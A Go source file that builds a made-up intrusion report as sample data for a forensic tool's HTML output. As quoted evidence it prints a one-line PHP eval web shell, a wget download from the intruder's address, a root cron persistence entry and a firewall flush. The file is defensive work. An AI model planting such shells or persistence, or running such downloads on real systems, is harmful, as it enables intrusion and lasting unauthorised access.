package html

import (
	"telltale/casefile"
	"telltale/report"
	"telltale/story"
)

const authLog = "gpt:1!ext4:/var/log/auth.log"

func claim(id, rung, at string, st story.Status, text string, quotes ...story.Quotation) story.Claim {
	return story.Claim{ID: id, Text: text, Rung: rung, Time: at, Status: st, For: quotes, Against: []story.Quotation{}}
}

func quote(path string, line, offset int64, s string) story.Quotation {
	return story.Quotation{Source: "s1", Path: path, Line: line, Offset: offset, Length: int64(len(s)), Quote: s}
}

// example is a made-up break-in that has something in every part of the report.
func example() *report.Document {
	root := true
	d := &report.Document{Schema: report.Schema, Tool: report.Tool{Name: "telltale", Version: "0.1.0"}, Made: "2024-03-20T09:30:00Z", Goal: report.RootCause}
	d.Hosts = []casefile.Host{{ID: "h1", Hostname: "web1", OS: "Debian GNU/Linux 12 (bookworm)", Kernel: "6.1.0-18-amd64", Zone: "Europe/Berlin", ZoneFrom: "/etc/localtime", Boot: "2024-02-11T04:00:12Z"}}
	d.Sources = []casefile.Source{
		{ID: "s1", Path: "web1.E01", Kind: "disk-image", Host: "h1", Size: 21474836480, SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", Verified: true, Notes: []string{"ewf: 12 segments, MD5 of the acquirer agrees"}},
		{ID: "s2", Path: "mailgw-logs.tar.gz", Kind: "tarball", Size: 90412, Notes: []string{}},
	}
	d.Verdict = story.Verdict{Status: story.Compromised, Confidence: story.Confirmed, Root: &root, Summary: "203.0.113.66 guessed the ssh password of alice on 2024-03-14 at 02:11:09 UTC (c1) and became root eight minutes later. The intruder left 3 ways to come back, tampered with 3 logs and files and sent 18211 mails. Nothing on this server can be trusted: rebuild it."}
	d.Entry = []story.Entry{{Vector: "ssh-password-guessed", Status: story.Confirmed, Service: "sshd", Account: "alice", Sources: []string{"203.0.113.66", "198.51.100.7"}, Product: "OpenSSH 9.2p1", CVE: []string{}, First: "2024-03-14T02:11:09Z", Last: "2024-03-14T02:41:50Z", ErrorSeconds: 1, Claims: []string{"c1", "c2"}}}
	d.Hypotheses = []story.Hypothesis{
		{Vector: "ssh-password-guessed", Status: story.Confirmed, Score: 11, For: []string{"c1", "c2"}, Against: []string{}, Why: "1482 refused tries end in an accepted one from the same address (c1)", WouldFlip: "alice showing that the login at 02:11 was her own"},
		{Vector: "web-upload", Status: story.Possible, Score: 2.5, For: []string{"c9"}, Against: []string{"c3"}, Why: "a script stands in an upload folder, but it came after the login (c3)", WouldFlip: "an access log from before 2024-03-10, which was rotated away"},
		{Vector: "ftp-password", Status: story.CannotTell, For: []string{}, Against: []string{}, Why: "no log that would show it was read", WouldFlip: "the missing log, from a backup"},
		{Vector: "ssh-key", Status: story.RuledOut, Score: -2, For: []string{}, Against: []string{"c1"}, Why: "the logs cover the time and show no login by key before c7", WouldFlip: "a login that nobody entitled made"},
	}
	d.Actors = []story.Actor{
		{Sources: []string{"203.0.113.66"}, Accounts: []string{"alice", "root"}, Keys: []string{"SHA256:mVPwvezndPv/ARoIadVY98vAC0g+P/5633yTC4d/wXE"}, Origin: "external", ASN: "AS64500", Country: "ZZ", UserAgents: []string{"curl/7.88.1"}, First: "2024-03-14T01:48:00Z", Last: "2024-03-14T02:41:50Z", Claims: []string{"c1"}},
		{Sources: []string{"198.51.100.7"}, Accounts: []string{"root"}, Keys: []string{}, Origin: "external", UserAgents: []string{}, First: "2024-03-18T22:03:11Z", Last: "2024-03-18T22:20:40Z", Claims: []string{"c7"}},
	}
	d.Actions = []story.Action{
		{What: "looked around: id; uname -a; cat /etc/passwd", Attack: "T1082", Time: "2024-03-14T02:11:31Z", Account: "alice", Claims: []string{"c3"}},
		{What: "fetched a program", Attack: "T1105", Time: "2024-03-14T02:14:02Z", Account: "alice", Path: "/var/tmp/.font-unix/upd", Claims: []string{"c4"}},
		{What: "ran a command as root: /bin/bash", Attack: "T1548.003", Time: "2024-03-14T02:19:40Z", Account: "alice", Claims: []string{"c5"}},
		{What: "left a cron entry behind", Attack: "T1053.003", Time: "2024-03-14T02:21:05Z", Account: "root", Path: "/etc/cron.d/man-db-update", Claims: []string{"c6"}},
		{What: "removed lines from a log", Attack: "T1070.002", Time: "2024-03-14T02:40:58Z", Account: "root", Path: "/var/log/auth.log", Claims: []string{"c8"}},
		{What: "switched off the firewall", Attack: "T1562.004", Time: "2024-03-14T02:25:44Z", Account: "root", Path: "/etc/nftables.conf", Claims: []string{"c10"}},
		{What: "typed: wget -q http://203.0.113.66/upd", Attack: "T1059.004", Account: "alice", Path: "/home/alice/.bash_history", Claims: []string{"c4"}},
		{What: "asked the mail queue for its length", Attack: "T1033", Time: "2024-03-18T22:05:02Z", Account: "root", Claims: []string{"c7"}},
	}
	d.Persistence = []story.Persistence{
		{Mechanism: "cron", Path: "/etc/cron.d/man-db-update", Runs: "/var/tmp/.font-unix/upd >/dev/null 2>&1", As: "root", Since: "2024-03-14T02:21:05.172585241Z", Attack: "T1053.003", Claims: []string{"c6"}},
		{Mechanism: "ssh-key", Path: "/root/.ssh/authorized_keys", As: "root", Since: "2024-03-14T02:22:17Z", Attack: "T1098.004", Claims: []string{"c7"}},
		{Mechanism: "web-shell", Path: "/var/www/html/uploads/.thumbs/img_0417.php", Runs: "on request", As: "www-data", Since: "2024-03-14T02:24:30Z", Attack: "T1505.003", Claims: []string{"c9"}},
	}
	d.Running = []story.Running{{PID: 4711, Name: "[kworker/3:1]", Exe: "/var/tmp/.font-unix/upd", Deleted: true, User: "root", Sockets: []string{"tcp 10.0.0.5:44010 to 203.0.113.66:443"}, Started: "2024-03-14T02:26:00Z", Why: "named as a kernel thread, but has a program", Claims: []string{"c4"}}}
	d.Hidden = []story.Hidden{{What: "process", Detail: "4711 answers to a signal but is not listed", Views: []string{"proc-readdir", "pid-oracle"}, Claims: []string{"c4"}}}
	d.Altered = []story.Altered{
		{Path: "/var/log/auth.log", Kind: "log-edited", Expected: "every line of 203.0.113.66", Found: "none after 02:11:09", Claims: []string{"c8"}},
		{Path: "/var/log/btmp", Kind: "log-cut", Expected: "records", Found: "none", Claims: []string{"c8"}},
		{Path: "/root/.bash_history", Kind: "history-wiped", Expected: "the commands of root", Found: "is empty", Claims: []string{"c11"}},
	}
	d.Impact = []story.Impact{{What: "spam", Detail: "at most 4100 in an hour; 2 in a usual one", Count: 18211, First: "2024-03-18T22:04:00Z", Last: "2024-03-20T05:59:12Z", By: "root", Claims: []string{"c12"}}}
	aftermath(d)
	d.Innocent = []story.Innocent{{What: "the cron entry in /etc/cron.d/backup-home, which no package owns", Why: "what it runs is ordinary, and nobody suspected was there when the file changed"}}
	d.DoNow = []story.Step{
		{Order: 1, Step: "Cut the server from the network; do not switch it off.", Why: "Memory holds what runs; a reboot destroys it."},
		{Order: 2, Step: "Take an image of memory, then of the disk.", Why: "They change with every minute."},
		{Order: 3, Step: "Replace every password and key that this server held.", Why: "Root was reached (c5)."},
		{Order: 4, Step: "Rebuild the server from clean media.", Why: "Nothing on it can be trusted."},
	}
	d.Unknown = []string{"What was read or copied: no log of the network was among the evidence.", "What root typed: its history was wiped (c11)."}
	d.Claims = []story.Claim{
		claim("c1", "b", "2024-03-14T02:11:09Z", story.Confirmed, "After 1482 refused tries sshd accepted the password of alice from 203.0.113.66.",
			quote(authLog, 40211, 5120044, "Mar 14 03:11:04 web1 sshd[4410]: Failed password for alice from 203.0.113.66 port 50122 ssh2"),
			quote(authLog, 40213, 5120233, "Mar 14 03:11:09 web1 sshd[4410]: Accepted password for alice from 203.0.113.66 port 50122 ssh2")),
		claim("c2", "c", "2024-03-14T02:11:10Z", story.Confirmed, "wtmp holds the session that followed.", quote("gpt:1!ext4:/var/log/wtmp", 0, 38400, "type USER_PROCESS user alice line pts/0 host 203.0.113.66")),
		claim("c3", "c", "2024-03-14T02:11:31Z", story.Likely, "alice looked around.", quote("gpt:1!ext4:/home/alice/.bash_history", 88, 2210, "id; uname -a; cat /etc/passwd")),
		claim("c4", "c", "2024-03-14T02:14:02Z", story.Confirmed, "A program was put where everybody may write.", quote("gpt:1!ext4:/var/tmp/.font-unix/upd", 0, 0, "inode 131203, born 2024-03-14T02:14:02Z, ELF 64-bit")),
		claim("c5", "b", "2024-03-14T02:19:40Z", story.Confirmed, "alice became root by sudo.", quote(authLog, 40230, 5121002, "Mar 14 03:19:40 web1 sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash")),
		claim("c6", "c", "2024-03-14T02:21:05Z", story.Confirmed, "A cron entry in /etc/cron.d/man-db-update lets root run /var/tmp/.font-unix/upd.", quote("gpt:1!ext4:/etc/cron.d/man-db-update", 1, 0, "*/7 * * * * root /var/tmp/.font-unix/upd >/dev/null 2>&1")),
		claim("c7", "b", "2024-03-18T22:03:11Z", story.Confirmed, "The key left in /root/.ssh/authorized_keys was used from 198.51.100.7.", quote(authLog, 41800, 5400120, "Mar 18 23:03:11 web1 sshd[9002]: Accepted publickey for root from 198.51.100.7 port 40022 ssh2: ED25519 SHA256:mVPw")),
		claim("c8", "c", "2024-03-14T02:40:58Z", story.Likely, "Lines were removed from auth.log.", quote(authLog, 40231, 5121100, "Mar 14 06:25:01 web1 CRON[5001]: pam_unix(cron:session): session opened for user root")),
		claim("c9", "c", "2024-03-14T02:24:30Z", story.Likely, "A script stands among uploaded pictures.", quote("gpt:1!ext4:/var/www/html/uploads/.thumbs/img_0417.php", 1, 0, "<?php @eval($_POST['q']); ?>")),
		claim("c10", "c", "2024-03-14T02:25:44Z", story.Possible, "The firewall's rules were emptied.", quote("gpt:1!ext4:/etc/nftables.conf", 1, 0, "flush ruleset")),
		claim("c11", "c", "", story.Likely, "The history of root is empty, though root logged in.", quote("gpt:1!ext4:/root/.bash_history", 0, 0, "inode 1302, size 0")),
		claim("c12", "d", "2024-03-18T22:04:00Z", story.Confirmed, "18211 mails left, which the gateway saw too.", story.Quotation{Source: "s2", Path: "mail.log", Line: 17, Offset: 1800, Length: 71, Quote: "Mar 18 22:04:00 gw postfix/smtpd[88]: 4F1: client=web1.example[10.0.0.5]"}),
	}
	d.Claims[8].Against = []story.Quotation{quote("gpt:1!ext4:/var/log/apache2/access.log", 9001, 800120, `10.0.0.9 - - [14/Mar/2024:03:24:30 +0100] "POST /upload HTTP/1.1" 403 199`)}
	d.Findings = []story.Finding{
		{Detection: "D13", Title: "1482 refused logins, then an accepted one", Attack: []string{"T1110.001"}, Level: "high", Time: "2024-03-14T02:11:09Z", Claims: []string{"c1"}},
		{Detection: "D41", Title: "cron entry that no package owns runs a program below /var/tmp", Attack: []string{"T1053.003"}, Level: "critical", Time: "2024-03-14T02:21:05Z", Claims: []string{"c6"}},
	}
	d.Coverage = []casefile.Coverage{
		{Source: "s1", Path: authLog, Artifact: "sshd", First: "2024-03-10T05:25:02Z", Last: "2024-03-20T06:01:00Z", Records: 41902, Unparsed: 3, Unknown: map[string]int64{"sshd": 2, "polkitd": 1}, Gaps: []casefile.Gap{{From: "2024-03-14T02:19:40Z", To: "2024-03-14T05:25:01Z", Why: "cron writes every hour, and here it does not"}}, Covers: "partly", Time: "year by the file's mtime, zone /etc/localtime"},
		{Source: "s1", Path: "gpt:1!ext4:/var/log/wtmp", Artifact: "wtmp", First: "2024-03-01T07:00:00Z", Last: "2024-03-19T08:12:00Z", Records: 101, Unknown: map[string]int64{}, Gaps: []casefile.Gap{}, Covers: "yes", Time: "epoch"},
	}
	d.Clocks = []casefile.Clock{{Source: "s1", Zone: "Europe/Berlin", From: "/etc/localtime", Error: 0.5}, {Source: "s2", Zone: "UTC", From: "stamps", Skew: -1.25, Drift: 0.02, Error: 0.3, Pairs: 214}}
	d.Damage = []casefile.Damage{{Ref: casefile.Ref{Source: "s1", Path: "gpt:1!ext4:/var/log/journal/system.journal", Offset: 8388608, Length: 4096}, Reason: "entry array runs past the end of the file"}}
	d.Custody = []casefile.Custody{{Tool: "telltale", Version: "0.1.0", Command: []string{"telltale", "examine", "web1.E01", "mailgw logs.tar.gz", "--case", "web1"}, Started: "2024-03-20T09:20:00Z", Ended: "2024-03-20T09:30:00Z", Machine: "bench", User: "examiner", Clock: "Europe/Berlin"}}
	return d
}

// aftermath fills what lies behind the break-in itself: what could be read, who else was reached, who complained, and what is known of the intruder.
func aftermath(d *report.Document) {
	d.Hypotheses[0].Weights = []story.Weight{{Rule: "accepted after refused tries", Points: 6, Claim: "c1"}, {Rule: "a session followed", Points: 5, Claim: "c2"}}
	d.Hypotheses[1].Weights = []story.Weight{{Rule: "a script among uploads", Points: 3.5, Claim: "c9"}, {Rule: "came after another way in", Points: -1, Claim: "c3"}}
	a := &d.Actors[0]
	a.Comments, a.Tools = []string{"ops@kali"}, []string{"hydra"}
	a.Networks = []string{"203.0.113.0/24 AS64500 Example Ltd NL"}
	a.Hours = []int{0, 31, 40, 12, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 9, 14}
	a.Zone = "he is awake from 21 to 04 UTC; that fits many places"
	d.Exposed = []story.Exposure{
		{Kind: "password-hashes", What: "the hashes of all passwords", Path: "/etc/shadow", As: "root", Status: story.Likely, Do: "set every password anew, everywhere it is used", Claims: []string{"c5"}},
		{Kind: "service-password", What: "the password of the shop's database", Path: "/var/www/html/config.php", As: "www-data", Status: story.Confirmed, Taken: true, Do: "give the database user another password", Claims: []string{"c9"}},
		{Kind: "private-key", What: "the key of alice for other machines", Path: "/home/alice/.ssh/id_ed25519", As: "alice", Status: story.Possible, Do: "remove it from every authorized_keys", Claims: []string{"c1"}},
	}
	d.Contacted = []story.Contact{
		{Host: "db1.example", How: "ssh", Account: "alice", Status: story.Likely, First: "2024-03-14T02:31:00Z", Claims: []string{"c3"}},
		{Host: "198.51.100.99", How: "download", Account: "alice", Status: story.Confirmed, First: "2024-03-14T02:14:02Z", Last: "2024-03-14T02:14:02Z", Claims: []string{"c4"}},
		{Host: "drop.example", How: "upload", Account: "root", Status: story.Likely, First: "2024-03-14T02:35:00Z", Claims: []string{"c5"}},
		{Host: "backup.example", How: "known-host", Account: "alice", Status: story.Possible, Claims: []string{"c1"}},
	}
	d.Complaints = []story.Complaint{{Asked: "who sent mail 4F1 on 18 March?", Status: story.Confirmed, Answer: "The mail was handed in by a process of root that the intruder left.", Process: "upd", Account: "root", Script: "/var/tmp/.font-unix/upd",
		QueueID: []string{"4F1"}, Sources: []string{"203.0.113.66"}, Entry: "ssh-password-guessed", Missing: []string{"the mail queue of that day"}, Claims: []string{"c12"}}}
	d.Patches, d.Recovery, d.Removed = []story.Patch{}, []casefile.Recovery{}, []casefile.Removed{}
}
